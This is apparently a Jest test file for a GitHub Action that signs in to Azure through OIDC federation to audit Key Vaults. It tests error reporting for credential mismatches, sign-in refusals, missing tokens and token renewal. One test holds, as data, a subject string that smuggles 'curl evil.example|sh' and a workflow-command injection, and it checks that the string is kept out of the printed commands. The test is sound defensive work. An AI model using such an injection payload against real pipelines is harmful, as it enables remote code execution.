// From GitHub's token to Azure's: what is said when there is none, when it is refused, and when it ends too early.
import { describe, expect, test } from '@jest/globals';
import type { EstateInput } from '../../emulator/estate.ts';
import type { FaultsInput } from '../../emulator/faults.ts';
import {
  clientId,
  good,
  operations,
  reportOf,
  subscription,
  tenantId,
  tryOut,
  type Trial,
  type TrialOptions,
} from './trial.ts';

const subscriptions = [{ id: subscription(1), vaults: [{ name: 'kv-good', settings: [good] }] }];
const issuer = 'https://token.actions.githubusercontent.com';
const audience = 'api://AzureADTokenExchange';
const classic = 'repo:octo-org/payments:environment:production';
const immutable = 'repo:octo-org@1844662/payments@599293758:ref:refs/heads/main';
const customised = 'repository_owner_id:1844662:repository_id:599293758:ref:refs/heads/main';
const trusted = { issuer, subject: 'repo:octo-org/payments:ref:refs/heads/trusted', audience };

/** The one annotation of a run that could not sign in. */
function failureOf(trial: Trial): { readonly code: string; readonly message: string } {
  expect(trial).toMatchObject({ exitCode: 1, report: null });
  expect(trial.outputs['result']).toBe('error');
  expect(trial.annotations.length).toBe(1);
  expect(trial.summary).toMatch(/^## ❌ The audit could not run\n/);
  expect(trial.requests.filter(({ host }) => host.startsWith('management.'))).toEqual([]);
  const { title, message } = trial.annotations[0] ?? { title: '', message: '' };
  expect(message).toMatch(new RegExp(`/docs/troubleshooting\\.md#${title.toLowerCase()}$`));
  return { code: title, message };
}

interface Mismatch {
  readonly number: string;
  readonly code: string;
  readonly estate: Omit<EstateInput, 'subscriptions'>;
  readonly presented?: { readonly subject?: string; readonly audience?: string; readonly issuer?: string };
  readonly inputs?: Readonly<Record<string, string>>;
}

const mismatches: Readonly<Record<string, Mismatch>> = {
  'another issuer': {
    number: '700211',
    code: 'KVA-FEDERATION',
    estate: { github: { issuer: `${issuer}/octo`, subject: classic }, federatedCredentials: [trusted] },
    presented: { issuer: `${issuer}/octo`, subject: classic },
  },
  'another audience': {
    number: '700212',
    code: 'KVA-FEDERATION',
    estate: { federatedCredentials: [{ ...trusted, subject: classic }], github: { subject: classic } },
    inputs: { audience: 'api://Other' },
    presented: { audience: 'api://Other', subject: classic },
  },
  'another subject, classic': {
    number: '700213',
    code: 'KVA-FEDERATION',
    estate: { github: { subject: classic }, federatedCredentials: [trusted] },
    presented: { subject: classic },
  },
  'another subject, immutable': {
    number: '700213',
    code: 'KVA-FEDERATION',
    estate: { github: { subject: immutable }, federatedCredentials: [trusted] },
    presented: { subject: immutable },
  },
  'another subject, customised': {
    number: '700213',
    code: 'KVA-FEDERATION',
    estate: { github: { subject: customised }, federatedCredentials: [trusted] },
    presented: { subject: customised },
  },
  'nothing in particular': {
    number: '70021',
    code: 'KVA-FEDERATION',
    estate: { github: { subject: immutable }, federatedCredentials: [trusted], entra: { mismatch: 'generic' } },
    presented: { subject: immutable },
  },
  'an expression that does not match': {
    number: '7002131',
    code: 'KVA-FEDERATION',
    estate: { github: { subject: customised }, federatedCredentials: [trusted], entra: { mismatch: 'flexible' } },
    presented: { subject: customised },
  },
  'only the letter case': {
    number: '7002138',
    code: 'KVA-FEDERATION-CASE',
    estate: { github: { subject: classic }, federatedCredentials: [{ ...trusted, subject: classic.toUpperCase() }] },
    presented: { subject: classic },
  },
};

describe('a federated credential that does not match', () => {
  test.concurrent.each(Object.entries(mismatches))('%s', async (_what, row) => {
    const trial = await tryOut({ estate: { ...row.estate, subscriptions }, inputs: row.inputs ?? {} });
    const { code, message } = failureOf(trial);
    expect(code).toBe(row.code);
    expect(message).toContain(`AADSTS${row.number}:`);
    const presented = { issuer, audience, ...row.presented };
    expect(message).toContain(`\n  issuer:   ${presented.issuer}\n`);
    expect(message).toContain(`\n  subject:  ${presented.subject ?? ''}\n`);
    expect(message).toContain(`\n  audience: ${presented.audience}\n`);
    expect(operations(trial)).toEqual({ GitHub_IdToken: 1, Entra_Token: 1 });

    const commands = [
      `az ad sp show --id ${clientId} --query servicePrincipalType`,
      `az ad app federated-credential ${row.number === '7002138' ? 'update' : 'create'} --id ${clientId}`,
      `az identity federated-credential ${row.number === '7002138' ? 'update' : 'create'} --name`,
    ];
    for (const command of commands) {
      expect(trial.stdout).toContain(command);
      expect(trial.summary).toContain(command);
    }
    const [wrongVerb] = row.number === '7002138' ? ['credential create'] : ['credential update'];
    expect(trial.stdout).not.toContain(wrongVerb);
    if (row.number !== '7002138') {
      expect(trial.stdout).toContain(`"subject":"${presented.subject ?? ''}","audiences":["${presented.audience}"]`);
      expect(trial.stdout).toContain(`--subject '${presented.subject ?? ''}' --audiences '${presented.audience}'`);
    }
  });

  test('the subject of a merge queue: advises an environment', async () => {
    const subject = 'repo:octo-org/payments:ref:refs/heads/gh-readonly-queue/main/pr-7-0123456789abcdef';
    const { message } = failureOf(
      await tryOut({ estate: { github: { subject }, federatedCredentials: [trusted], subscriptions } }),
    );
    expect(message).toMatch(/merge queue.*`environment:`/s);
  });

  test('a subject with shell syntax never enters a command', async () => {
    const subject = "repo:octo-org/payments:ref:refs/heads/x';curl evil.example|sh;'\n::error::owned";
    const trial = await tryOut({ estate: { github: { subject }, federatedCredentials: [trusted], subscriptions } });
    failureOf(trial);
    const pasted = trial.stdout.split('\n').filter((line) => line.includes('federated-credential'));
    expect(pasted.join('\n')).not.toContain('curl');
    expect(trial.summary.split('```')[1] ?? '').not.toContain('curl');
  });
});

describe('other refusals', () => {
  const refusal = (status: number, number: string, more: object = {}): FaultsInput => ({
    entra: { kind: 'status', status, code: `AADSTS${number}`, message: 'Refused.', ...more },
  });
  const rows: readonly (readonly [
    what: string,
    options: Omit<TrialOptions, 'estate'> & { estate?: Partial<EstateInput> },
    code: string,
    says: RegExp,
  ])[] = [
    ['an unknown client', { inputs: { 'client-id': tenantId } }, 'KVA-CLIENT', /AADSTS700016.*client-id/s],
    ['an unknown tenant', { inputs: { 'tenant-id': clientId } }, 'KVA-TENANT', /AADSTS90002.*tenant-id/s],
    [
      'a tenant of another cloud',
      { inputs: { environment: 'azureusgovernment' } },
      'KVA-TENANT',
      /AADSTS90002.*environment/s,
    ],
    ['a token from the future', { estate: { github: { clockSkewSeconds: 900 } } }, 'KVA-CLOCK', /AADSTS700024.*clock/s],
    ['a token from the past', { estate: { github: { clockSkewSeconds: -900 } } }, 'KVA-CLOCK', /AADSTS700024.*clock/s],
    ['a policy', { faults: refusal(400, '53003') }, 'KVA-BLOCKED', /AADSTS53003.*Conditional Access/s],
    ['a policy for workloads', { faults: refusal(401, '700238') }, 'KVA-BLOCKED', /AADSTS700238/],
    ['a code of which nothing is known', { faults: refusal(400, '7000112') }, 'KVA-SIGN-IN', /AADSTS7000112/],
    [
      'Entra ID failing until later than we wait',
      { faults: refusal(503, '90033', { retryAfter: 60 }) },
      'KVA-ENTRA-UNAVAILABLE',
      /90033/,
    ],
    [
      'Entra ID throttling until later than we wait',
      { faults: refusal(429, '90055', { retryAfter: 60 }) },
      'KVA-ENTRA-UNAVAILABLE',
      /90055/,
    ],
    [
      'GitHub refusing',
      { faults: { github: { kind: 'status', status: 403 } } },
      'KVA-OIDC-FAILED',
      /api:\/\/AzureADTokenExchange.*403/,
    ],
  ];
  test.concurrent.each(rows)('%s', async (_what, options, expected, says) => {
    const trial = await tryOut({ ...options, estate: { subscriptions, ...options.estate } });
    const { code, message } = failureOf(trial);
    expect(code).toBe(expected);
    expect(message).toMatch(says);
  });
});

describe('no token is offered', () => {
  const pullRequest = (head: string | null, login = 'octocat'): unknown => ({
    pull_request: { head: { repo: head === null ? null : { full_name: head } }, user: { login } },
    repository: { full_name: 'octo-org/payments', private: true },
  });
  const without = ['ACTIONS_ID_TOKEN_REQUEST_URL', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN'];
  const lines = 'permissions:\n  id-token: write';
  const rows: readonly (readonly [what: string, options: Partial<TrialOptions>, says: RegExp, isPasted: boolean])[] = [
    ['a nightly run without the permission', {}, /lacks the permission id-token: write.*reusable workflow/s, true],
    [
      'a pull request from a fork',
      { event: { name: 'pull_request', payload: pullRequest('mona/payments') } },
      /comes from a fork.*: if: github\.event_name != 'pull_request' \|\| github\.event\.pull_request\.head\.repo/s,
      false,
    ],
    [
      'a pull request from a fork, which gets no variables either',
      {
        event: { name: 'pull_request', payload: pullRequest('mona/payments') },
        inputs: { 'client-id': '', 'tenant-id': '', 'subscription-id': '' },
      },
      /comes from a fork/,
      false,
    ],
    [
      'a pull request from a fork that is gone',
      { event: { name: 'pull_request', payload: pullRequest(null) } },
      /comes from a fork/,
      false,
    ],
    [
      'a pull request from the repository itself',
      { event: { name: 'pull_request', payload: pullRequest('octo-org/Payments') } },
      /lacks the permission/,
      true,
    ],
    [
      'pull_request_target for a fork, which may have a token',
      { event: { name: 'pull_request_target', payload: pullRequest('mona/payments') } },
      /lacks the permission/,
      true,
    ],
    ['Dependabot by its actor', { env: { GITHUB_ACTOR: 'dependabot[bot]' } }, /Dependabot/, true],
    [
      'Dependabot by its pull request',
      { event: { name: 'pull_request', payload: pullRequest('octo-org/payments', 'dependabot[bot]') } },
      /Dependabot/,
      true,
    ],
    ['an event file that is not JSON', { env: { GITHUB_EVENT_PATH: '/dev/null' } }, /lacks the permission/, true],
  ];
  test.concurrent.each(rows)('%s', async (_what, options, says, isPasted) => {
    const trial = await tryOut({ estate: { subscriptions }, without, ...options });
    const { code, message } = failureOf(trial);
    expect(code).toBe('KVA-OIDC-MISSING');
    expect(message).toMatch(says);
    expect(message.includes('comes from a fork')).toBe(!isPasted);
    expect(trial.summary.includes(lines)).toBe(isPasted);
    expect(trial.requests).toEqual([]);
  });
});

describe('tokens that end too early', () => {
  const vaults = Array.from({ length: 40 }, (_, index) => ({ name: `kv-${index}`, settings: [good] }));
  const estate = { subscriptions: [{ id: subscription(1), vaults }] };

  test.concurrent('revoked in the middle, twice: renewed once each, and everything is read', async () => {
    const trial = await tryOut({ estate, faults: { revokeTokens: { afterRequests: 12, tokens: 2 } } });
    expect(reportOf(trial)).toMatchObject({ result: 'pass', counts: { compliant: 40 } });
    // GitHub's token still lives, so only Entra ID is asked again.
    expect(operations(trial)).toMatchObject({ GitHub_IdToken: 1, Entra_Token: 3 });
    expect(new Set(trial.requests.map(({ token }) => token))).toEqual(new Set([null, 1, 2, 3]));
  });

  test.concurrent('expired in the middle: renewed once for all who wait', async () => {
    const slow = { kind: 'slow', ms: 600 } as const;
    const [first, ...others] = vaults;
    const trial = await tryOut({
      estate: {
        entra: { tokenLifetimeSeconds: 200 },
        subscriptions: [
          {
            id: subscription(1),
            vaults: [{ name: first?.name ?? '', settings: [good] }, ...others],
            faults: { vaults: slow },
          },
        ],
      },
      prepare: (emulator) => {
        // Once signed in, while the list is still on its way.
        const watch = setInterval(() => {
          if (!emulator.requests.some(({ operation }) => operation === 'Vaults_ListBySubscription')) return;
          emulator.advance(250_000);
          clearInterval(watch);
        }, 20);
      },
    });
    expect(reportOf(trial)).toMatchObject({ result: 'pass', counts: { compliant: 40 } });
    expect(operations(trial)).toMatchObject({ GitHub_IdToken: 1, Entra_Token: 2 });
  });

  test.concurrent(
    'an early renewal that fails for long: everything is read, and the run does not wait for it',
    async () => {
      const trial = await tryOut({
        estate: {
          // Renewed two minutes before its end: a second and a half after the sign-in, while the list is on its way.
          entra: { tokenLifetimeSeconds: 122 },
          subscriptions: [{ id: subscription(1), vaults, faults: { vaults: { kind: 'slow', ms: 3_000 } } }],
        },
        faults: {
          entra: [
            { kind: 'ok', times: 1 },
            { kind: 'status', status: 503 },
          ],
        },
      });
      expect(reportOf(trial)).toMatchObject({ result: 'pass', counts: { compliant: 40 } });
      expect(operations(trial)['Entra_Token']).toBeGreaterThan(1);
      expect(trial.durationMs).toBeLessThan(15_000);
    },
  );

  test.concurrent('refused over and over: five tokens, then forbidden, and the run ends', async () => {
    const trial = await tryOut({ estate, faults: { revokeTokens: { afterRequests: 0 } } });
    // Five for each read; reads that are under way together share nearly all of them.
    const { GitHub_IdToken: github, Entra_Token: entra } = operations(trial);
    expect(github).toBe(1);
    expect(entra).toBeGreaterThanOrEqual(5);
    expect(entra).toBeLessThanOrEqual(8);
    expect(reportOf(trial)).toMatchObject({ result: 'inconclusive', subscriptions: [{ status: 'unreadable' }] });
    expect(reportOf(trial).subscriptions[0]?.detail).toMatch(/401 InvalidAuthenticationToken/);
    expect(trial.exitCode).toBe(1);
  });

  test.concurrent(
    'a renewal that Entra ID refuses: what was read stays, the rest is forbidden, and it is not asked again',
    async () => {
      const trial = await tryOut({
        estate,
        faults: {
          revokeTokens: { afterRequests: 20 },
          entra: [
            { kind: 'ok', times: 1 },
            { kind: 'status', status: 400, code: 'AADSTS53003' },
          ],
        },
      });
      const { counts, resources } = reportOf(trial);
      expect(counts.compliant).toBeGreaterThan(5);
      expect(counts.unknown).toBe(40 - counts.compliant);
      expect(resources.filter(({ status }) => status === 'unknown').every(({ reason }) => reason === 'forbidden')).toBe(
        true,
      );
      expect(operations(trial)).toMatchObject({ GitHub_IdToken: 1, Entra_Token: 2 });
    },
  );

  test.concurrent('Entra ID failing twice and throttling once: signed in all the same', async () => {
    const entra: FaultsInput['entra'] = [
      { kind: 'status', status: 503, times: 2 },
      { kind: 'status', status: 429, retryAfter: 1, times: 1 },
    ];
    const trial = await tryOut({ estate, faults: { entra } });
    expect(reportOf(trial).result).toBe('pass');
    expect(operations(trial)).toMatchObject({ GitHub_IdToken: 1, Entra_Token: 4 });
  });

  test.concurrent.each([
    ['503', { kind: 'status', status: 503, times: 1 }],
    ['500', { kind: 'status', status: 500, times: 1 }],
    ['a broken connection', { kind: 'reset', times: 1 }],
  ] as const)("GitHub's issuer failing once with %s: signed in all the same", async (_what, github) => {
    const trial = await tryOut({ estate, faults: { github } });
    expect(reportOf(trial).result).toBe('pass');
    expect(operations(trial)).toMatchObject({ GitHub_IdToken: 2, Entra_Token: 1 });
  });
});
